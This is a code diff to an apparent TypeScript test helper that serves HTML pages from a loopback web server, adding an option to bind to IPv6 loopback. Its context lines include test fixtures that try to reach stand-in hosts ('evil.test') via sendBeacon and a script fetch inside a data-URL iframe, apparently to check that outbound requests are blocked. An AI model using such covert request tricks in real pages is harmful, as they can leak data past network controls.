@@ -54,7 +54,8 @@ navigator.sendBeacon('http://beacon.evil.test/');
 <iframe src="data:text/html,<script>fetch('http://data-frame.evil.test/')</script>"></iframe>`,
 };
 
-export async function startWebServer(): Promise<WebServer> {
+/** Serves on `host` (127.0.0.1, or `::1` for IPv6 loopback). */
+export async function startWebServer(host = '127.0.0.1'): Promise<WebServer> {
   const hits: string[] = [];
   const server = http.createServer((req, res) => {
     const url = new URL(req.url ?? '/', 'http://127.0.0.1');
@@ -86,11 +87,11 @@ export async function startWebServer(): Promise<WebServer> {
     res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
     res.end(page);
   });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  await new Promise<void>((resolve) => server.listen(0, host, resolve));
   const port = (server.address() as AddressInfo).port;
   return {
     port,
-    origin: `http://127.0.0.1:${port}`,
+    origin: `http://${host.includes(':') ? `[${host}]` : host}:${port}`,
     hits,
     close: () =>
       new Promise<void>((resolve) => {
